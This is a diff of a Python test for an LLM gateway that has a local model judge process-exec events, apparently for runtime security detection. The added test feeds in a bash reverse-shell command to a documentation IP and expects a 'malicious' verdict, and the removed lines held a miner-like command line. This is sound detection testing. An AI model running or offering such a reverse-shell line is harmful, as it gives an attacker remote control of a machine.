@@ -17,11 +17,11 @@ from habitus_llm_gateway.gateway import Gateway
 from habitus_llm_gateway.providers import Prompt, ProviderFault, built, place_of
 
 MODEL = os.environ["MODEL"]
-SHORT = "You judge commands. Answer with the JSON object."
+SHORT = "You judge commands. Answer with the JSON object. Explanations have at most eight words."
 
 
 def provider(model: str = MODEL, **own):
-    table = ProviderSettings(context=2048, **own)
+    table = ProviderSettings(context=2048, prompt="full", **own)
     return built(place_of("local", LlmSettings(provider="local", model=model, providers={"local": table})))
 
 
@@ -82,14 +82,26 @@ def test_half_a_model_is_named(tmp_path):
 
 
 @pytest.mark.timeout(900)
-async def test_the_gateway_gives_a_verdict_of_the_model():
-    chosen = LlmSettings(provider="local", model=MODEL)
-    gateway = Gateway.opened(chosen)
+async def test_the_gateway_tells_a_reverse_shell_from_a_version_and_reads_the_examples_once():
+    gateway = Gateway.opened(LlmSettings(provider="local", model=MODEL))
     try:
-        process = {"name": "java", "exe": "/tmp/java", "argv": ["./java", "-o", "pool.example:3333"]}
-        event = {"class": "process", "op": "exec", "process": process}
-        reply = await gateway.judge(JudgeRequest(image="webapp:v1", reason="unknown-path", event=event))
-        assert (reply.note, reply.abstained, reply.provider) == ("", False, "local")
-        assert reply.explanation.en
+        shell = await gateway.judge(
+            question("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/192.0.2.4/4444 0>&1")
+        )
+        plain = await gateway.judge(question("/usr/bin/java", "java", "-version"))
     finally:
         await gateway.close()
+    assert (shell.note, shell.verdict, shell.provider) == ("", "malicious", "local")
+    assert shell.explanation.en
+    assert shell.explanation.zh.startswith("语言模型判定为恶意")
+    assert (plain.note, plain.verdict) == ("", "benign")
+    # The second reads its own facts and writes nothing: the first read the instructions as well.
+    assert plain.latency_ms < shell.latency_ms
+
+
+def question(exe: str, *argv: str) -> JudgeRequest:
+    process = {"name": argv[0], "exe": exe, "argv": list(argv)}
+    event = {"class": "process", "op": "exec", "process": process}
+    return JudgeRequest(
+        image="webapp:v1", reason="unknown-argument", event=event, usual=["java -jar /app/web.jar"]
+    )
